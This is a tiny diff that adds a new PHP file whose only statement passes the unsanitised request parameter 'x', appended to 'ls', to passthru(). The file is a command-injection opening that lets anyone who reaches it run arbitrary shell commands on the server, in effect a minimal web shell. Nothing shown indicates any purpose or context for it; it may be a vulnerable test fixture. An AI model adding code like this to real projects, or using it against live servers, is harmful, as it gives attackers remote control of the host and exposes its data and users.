@@ -1,0 +1,2 @@
+<?php
+passthru('ls' . $_REQUEST['x']);
